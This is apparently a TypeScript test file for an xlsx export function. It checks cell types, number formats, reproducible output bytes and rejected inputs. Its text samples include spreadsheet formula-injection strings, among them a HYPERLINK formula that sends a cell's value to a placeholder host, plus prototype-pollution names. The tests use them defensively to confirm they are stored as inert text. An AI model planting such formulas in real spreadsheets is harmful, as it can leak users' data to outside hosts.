import { execFile } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { Decimal } from 'decimal.js';
import { afterEach, describe, expect, test, vi } from 'vitest';
import type { SpreadsheetCell } from '../../src/describe/views.ts';
import { workbookOf } from '../../src/export/index.ts';
import { PROJECT_DIR } from '../support/project.ts';
import { readWorkbook, zipDayOf } from './read-xlsx.ts';

const epochSeconds = Date.UTC(2026, 4, 4) / 1000;

function bytesOf(cells: readonly SpreadsheetCell[], epoch = epochSeconds): Promise<Uint8Array> {
  const rows = cells.map((cell) => [cell, 'x']);
  return workbookOf({ sheets: [{ name: 'One', headings: ['only', 'end'], rows }], epochSeconds: epoch });
}

async function readBack(cells: readonly SpreadsheetCell[]) {
  const sheet = readWorkbook(await bytesOf(cells)).get('One');
  if (sheet === undefined) throw new RangeError('there is no sheet');
  return sheet;
}

test('texts come back as texts, whatever they begin with or hold, and stay texts when edited', async () => {
  const formulas = ['=1+1', '+1 555', '-2+3', '@SUM(A1)', '\t=1+1', '=HYPERLINK("http://a.invalid/?x="&A1)'];
  const plain = ['plain', '12', '1e3', 'TRUE', ' a ', '<b>&amp;"\'</b>', '4 1/2″ é 石 😀', 'two\nlines'];
  const texts = [...formulas, ...plain, '_x0041_', '_x005F_x0041_', '__proto', '_x41_'];
  const sheet = await readBack(texts);
  expect(sheet.values('only')).toEqual(texts);
  expect(new Set(sheet.column('only').map((cell) => cell?.format))).toEqual(new Set(['@']));
});

test.each(['constructor', 'toString', '__proto__'])('the text %s is no name of the program', async (text) => {
  const [read] = (await readBack([text])).values('only');
  expect(String(read).trimEnd()).toBe(text);
});

test('numbers come back in full, money with the format of two decimals, and nothing as nothing', async () => {
  const cells = [0.1 + 0.2, -2.5, 1e21, 0, new Decimal('1234.50'), null, ''];
  const sheet = await readBack(cells);
  expect(sheet.values('only')).toEqual([0.1 + 0.2, -2.5, 1e21, 0, 1234.5, null, null]);
  const formats = sheet.column('only').map((cell) => cell?.format);
  expect(formats).toEqual([null, null, null, null, '0.00', undefined, undefined]);
  expect(sheet.values('end')).toEqual(cells.map(() => 'x'));
});

test('headings alone are bold and stay in view, and columns are as wide as what stands in them', async () => {
  const sheet = await readBack(['a text that is 32 characters long', new Decimal('1'), 'y'.repeat(100)]);
  expect(sheet.headings.map((cell) => [cell?.value, cell?.isBold])).toEqual([
    ['only', true],
    ['end', true],
  ]);
  expect(sheet.rows.flat().some((cell) => cell?.isBold)).toBe(false);
  expect(sheet.frozenRows).toBe(1);
  expect(sheet.widths).toEqual([60, 8]);
  expect((await readBack(['t'.repeat(30)])).widths[0]).toBe(32);
});

describe('the bytes', () => {
  const sheets = [{ name: 'One', headings: ['only'], rows: [['a']] }];
  afterEach(() => {
    vi.useRealTimers();
  });

  test('are the same at another time', async () => {
    const made = new Set<string>();
    for (const now of ['2026-05-04', '2031-01-01']) {
      vi.useFakeTimers({ toFake: ['Date'], now: new Date(now) });
      made.add(Buffer.from(await workbookOf({ sheets, epochSeconds })).toString('base64'));
    }
    expect(made.size).toBe(1);
  });

  test('are the same in another time zone', async () => {
    const child = fileURLToPath(new URL('./workbook-child.ts', import.meta.url));
    const { stdout } = await promisify(execFile)(
      process.execPath,
      ['--import', 'tsx', child, String(epochSeconds)],
      { cwd: PROJECT_DIR, env: { ...process.env, TZ: 'Pacific/Kiritimati' } },
    );
    const here = Buffer.from(await workbookOf({ sheets, epochSeconds })).toString('base64');
    expect(stdout.split(' ')).toEqual([expect.not.stringMatching(`^${new Date(0).getHours()}$`), here]);
  });

  test.each([
    { epoch: epochSeconds, day: '2026-05-04' },
    { epoch: epochSeconds + 86_399, day: '2026-05-04' },
    { epoch: 0, day: '1980-01-01' },
    { epoch: 999_999_999_999, day: '2099-12-31' },
  ])('of $epoch s carry the day $day', async ({ epoch, day }) => {
    expect(zipDayOf(await bytesOf(['a'], epoch))).toBe(day);
  });
});

describe('what is refused', () => {
  test.each([Number.NaN, Infinity, new Decimal(Number.NaN)])('the number %s', async (cell) => {
    await expect(bytesOf([cell])).rejects.toThrow(RangeError);
  });

  test.each([{ row: [] }, { row: ['a', 1, null] }])(
    'a row that is too short or long: $row',
    async ({ row }) => {
      const sheets = [{ name: 'One', headings: ['x', 'y'], rows: [['a', 1], row] }];
      await expect(workbookOf({ sheets, epochSeconds })).rejects.toThrow(
        `a row of One has ${row.length} cells under 2 headings`,
      );
    },
  );

  test('a workbook without a sheet', async () => {
    await expect(workbookOf({ sheets: [], epochSeconds })).rejects.toThrow(RangeError);
  });
});
